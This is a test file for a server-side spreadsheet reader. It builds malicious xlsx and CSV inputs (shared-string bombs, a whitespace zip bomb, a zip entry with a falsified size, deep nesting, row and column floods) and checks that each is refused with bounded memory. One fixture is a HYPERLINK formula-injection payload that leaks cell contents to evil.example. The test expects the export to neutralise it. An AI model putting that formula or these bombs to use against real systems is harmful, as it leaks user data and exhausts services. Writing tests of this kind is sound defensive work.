/**
 * The hardened spreadsheet reader (server/services/spreadsheet-read.ts): workbooks Excel and our own export
 * write read back cell for cell; hostile files (a cell at column XFD on 2,000 rows, a shared-string bomb, a
 * whitespace bomb, a zip entry that lies about its size, deep nesting, too many rows or cells) are refused with
 * a 400 naming the limit, and reading them grows the process's memory by at most 64 MB.
 */
import ExcelJS from 'exceljs';
import { strToU8, zipSync } from 'fflate';
import { expect, it } from 'vitest';
import { ApiError } from '../../server/errors.js';
import { readSpreadsheet, type SpreadsheetLimits } from '../../server/services/spreadsheet-read.js';
import { tableBuffer } from '../../server/services/table-export.js';
import { describeOnce } from './helpers/app.js';

const LIMITS: SpreadsheetLimits = { maxRows: 2101, maxColumns: 100 };
const MB = 1024 * 1024;

const WORKBOOK =
  '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>' +
  '<sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>';
const RELS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="worksheet" Target="worksheets/sheet1.xml"/></Relationships>';

/** A minimal workbook from raw parts (how an attacker writes one: no spreadsheet program involved). */
function workbook(sheet: string, extra: Record<string, Uint8Array> = {}): Buffer {
  return Buffer.from(
    zipSync(
      {
        'xl/workbook.xml': strToU8(WORKBOOK),
        'xl/_rels/workbook.xml.rels': strToU8(RELS),
        'xl/worksheets/sheet1.xml': strToU8(sheet),
        ...extra,
      },
      { level: 6 },
    ),
  );
}
const sheetXml = (rows: string, dimension = '') =>
  `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${dimension}<sheetData>${rows}</sheetData></worksheet>`;

async function refusal(data: Buffer, limits = LIMITS): Promise<{ status: number; message: string; limit: string }> {
  try {
    await readSpreadsheet('xlsx', data, limits);
  } catch (error) {
    expect(error).toBeInstanceOf(ApiError);
    const e = error as ApiError;
    return { status: e.status, message: e.message, limit: String((e as { limit?: string }).limit ?? '') };
  }
  throw new Error('the file was read');
}

/** The largest growth of heap + external memory (and RSS) seen while `work` runs, sampled as it goes. */
async function growthDuring(work: () => Promise<unknown>): Promise<{ heap: number; rss: number }> {
  globalThis.gc?.();
  const before = process.memoryUsage();
  let heap = 0;
  let rss = 0;
  const sample = () => {
    const now = process.memoryUsage();
    heap = Math.max(
      heap,
      now.heapUsed + now.external + now.arrayBuffers - before.heapUsed - before.external - before.arrayBuffers,
    );
    rss = Math.max(rss, now.rss - before.rss);
  };
  const timer = setInterval(sample, 5);
  try {
    await work().catch(() => undefined);
  } finally {
    clearInterval(timer);
    sample();
  }
  return { heap, rss };
}

describeOnce('spreadsheet reader', () => {
  it('reads a workbook ExcelJS writes (shared strings, numbers, gaps) and our own export, cell for cell', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('商品');
    sheet.addRow(['编号', '商品名称', '库存', '价格（华东）']);
    sheet.addRow(['', '不锈钢螺丝 M4×20', 500, '12.50']);
    sheet.getCell('D4').value = '3.00';
    const read = await readSpreadsheet('xlsx', Buffer.from(await book.xlsx.writeBuffer()), LIMITS);
    expect(read).toEqual([
      ['编号', '商品名称', '库存', '价格（华东）'],
      ['', '不锈钢螺丝 M4×20', '500', '12.50'],
      [],
      ['', '', '', '3.00'],
    ]);

    const exported = await tableBuffer('xlsx', {
      sheet: '商品',
      header: ['名称', '备注'],
      rows: [['=HYPERLINK("http://evil.example/?"&A1,"x")', '含"引号",逗号']],
    });
    expect(await readSpreadsheet('xlsx', exported, LIMITS)).toEqual([
      ['名称', '备注'],
      [`'=HYPERLINK("http://evil.example/?"&A1,"x")`, '含"引号",逗号'],
    ]);
  });

  it('reads inline strings and skips phonetic runs', async () => {
    const data = workbook(
      sheetXml(
        '<row r="1"><c r="A1" t="inlineStr"><is><r><t>上</t></r><r><t>海</t></r><rPh><t>しゃん</t></rPh></is></c><c r="B1" t="b"><v>1</v></c></row>',
      ),
    );
    expect(await readSpreadsheet('xlsx', data, LIMITS)).toEqual([['上海', 'TRUE']]);
  });

  it('refuses 2,000 rows with a cell at column XFD, naming the column limit, with bounded memory', async () => {
    let rows = '';
    for (let r = 1; r <= 2000; r++) rows += `<row r="${r}"><c r="XFD${r}"><v>1</v></c></row>`;
    const data = workbook(sheetXml(rows));
    expect(data.length).toBeLessThan(64 * 1024);
    const growth = await growthDuring(() => readSpreadsheet('xlsx', data, LIMITS));
    expect(await refusal(data)).toMatchObject({ status: 400, limit: 'Columns' });
    expect(growth.heap).toBeLessThan(64 * MB);
    expect(growth.rss).toBeLessThan(64 * MB);
    // The declared dimension alone is refused before any row is read.
    const declared = await refusal(workbook(sheetXml('', '<dimension ref="A1:XFD2000"/>')));
    expect(declared).toMatchObject({ status: 400, limit: 'Columns' });
    expect(declared.message).toContain('100 列');
  });

  it('refuses a shared-string bomb (millions of entries, or a few huge ones repeated) with bounded memory', async () => {
    const entries = (n: number, text: (i: number) => string) =>
      Array.from({ length: n }, (_, i) => `<si><t>${text(i)}</t></si>`).join('');
    const many = `<sst uniqueCount="3000000">${entries(300_000, String)}</sst>`;
    const manyBook = workbook(sheetXml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), {
      'xl/sharedStrings.xml': strToU8(many),
    });
    expect(await refusal(manyBook)).toMatchObject({ status: 400, limit: 'SharedStrings' });

    // No declared count, 200,000 strings of about 32 characters each: refused by the table's size as it grows.
    const undeclared = `<sst>${entries(200_000, (i) => `汉${i.toString(36)}`.repeat(6))}</sst>`;
    const undeclaredBook = workbook(sheetXml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), {
      'xl/sharedStrings.xml': strToU8(undeclared),
    });
    expect(undeclaredBook.length).toBeLessThan(2 * MB);
    const growth = await growthDuring(() => readSpreadsheet('xlsx', undeclaredBook, LIMITS));
    expect((await refusal(undeclaredBook)).limit).toMatch(/^SharedString/);
    expect(growth.heap).toBeLessThan(64 * MB);

    // One string of 9,000 characters referenced by every cell of 2,000 rows × 20 columns.
    let cells = '';
    for (let r = 1; r <= 2000; r++) {
      cells += `<row r="${r}">`;
      for (let c = 0; c < 20; c++) cells += `<c r="${String.fromCharCode(65 + c)}${r}" t="s"><v>0</v></c>`;
      cells += '</row>';
    }
    const repeated = workbook(sheetXml(cells), {
      'xl/sharedStrings.xml': strToU8(`<sst><si><t>${'重'.repeat(9000)}</t></si></sst>`),
    });
    const repeatedGrowth = await growthDuring(() => readSpreadsheet('xlsx', repeated, LIMITS));
    expect(await refusal(repeated)).toMatchObject({ status: 400, limit: 'TotalChars' });
    expect(repeatedGrowth.heap).toBeLessThan(64 * MB);
  });

  it('refuses a whitespace bomb by its declared size, and an entry that inflates past what it declares', async () => {
    const spaces = ' '.repeat(40 * MB);
    const bomb = workbook(sheetXml(`<row r="1"><c r="A1"><v>1</v></c></row>${spaces}`));
    expect(bomb.length).toBeLessThan(2 * MB);
    const growth = await growthDuring(() => readSpreadsheet('xlsx', bomb, LIMITS));
    const refused = await refusal(bomb);
    expect(refused.status).toBe(400);
    expect(refused.limit).toMatch(/EntrySize|CompressionRatio/);
    expect(growth.heap).toBeLessThan(64 * MB);

    // The same sheet (smaller) whose central directory claims 1 KB: inflation stops there.
    const liar = workbook(sheetXml(`<row r="1"><c r="A1"><v>1</v></c></row>${' '.repeat(8 * MB)}`));
    const at = liar.lastIndexOf(Buffer.from('xl/worksheets/sheet1.xml')) - 46;
    expect(liar.readUInt32LE(at)).toBe(0x02014b50);
    liar.writeUInt32LE(1024, at + 24);
    expect(await refusal(liar)).toMatchObject({ status: 400, limit: 'EntrySize' });
  });

  it('refuses too many rows, deep nesting, a flood of elements and a file that is not a workbook', async () => {
    let rows = '';
    for (let r = 1; r <= 2200; r++) rows += `<row r="${r}"><c r="A${r}"><v>1</v></c></row>`;
    expect(await refusal(workbook(sheetXml(rows)))).toMatchObject({ status: 400, limit: 'Rows' });
    expect(await refusal(workbook(sheetXml('<row r="9999999"><c r="A9999999"><v>1</v></c></row>')))).toMatchObject({
      limit: 'Rows',
    });
    const deep = `${'<x>'.repeat(5000)}${'</x>'.repeat(5000)}`;
    expect(await refusal(workbook(sheetXml(`<row r="1"><c r="A1"><v>1</v></c></row>${deep}`)))).toMatchObject({
      limit: 'Nesting',
    });
    const flood = Array.from({ length: 20_000 }, (_, i) => `<x${i}/>`).join('');
    const small = { maxRows: 10, maxColumns: 5 };
    expect(await refusal(workbook(sheetXml(`<row r="1"><c r="A1"><v>1</v></c></row>${flood}`)), small)).toMatchObject({
      limit: 'Elements',
    });
    await expect(readSpreadsheet('xlsx', Buffer.from('not a zip at all'), LIMITS)).rejects.toMatchObject({
      status: 400,
    });
    await expect(readSpreadsheet('xlsx', workbook('<worksheet><sheetData><row>'), LIMITS)).rejects.toMatchObject({
      status: 400,
    });
  });

  it('bounds CSV: rows, columns past the template, long cells; a good file reads as written', async () => {
    const csv = (text: string) => readSpreadsheet('csv', Buffer.from(text), LIMITS);
    expect(await csv('\uFEFF"名称","价格"\r\n"螺丝","1.50"\r\n')).toEqual([
      ['名称', '价格'],
      ['螺丝', '1.50'],
    ]);
    await expect(csv('\n'.repeat(1_000_000))).rejects.toMatchObject({ status: 400, limit: 'Rows' });
    await expect(csv(`a${',x'.repeat(200)}\n`)).rejects.toMatchObject({ status: 400, limit: 'Columns' });
    // Empty trailing cells (a spreadsheet program's habit) are not columns.
    expect(await csv(`a,b${','.repeat(500)}\n`)).toEqual([['a', 'b']]);
    await expect(csv(`"${'x'.repeat(20_000)}"\n`)).rejects.toMatchObject({ status: 400 });
    await expect(csv('"open quote\n')).rejects.toMatchObject({ status: 400 });
  });
});
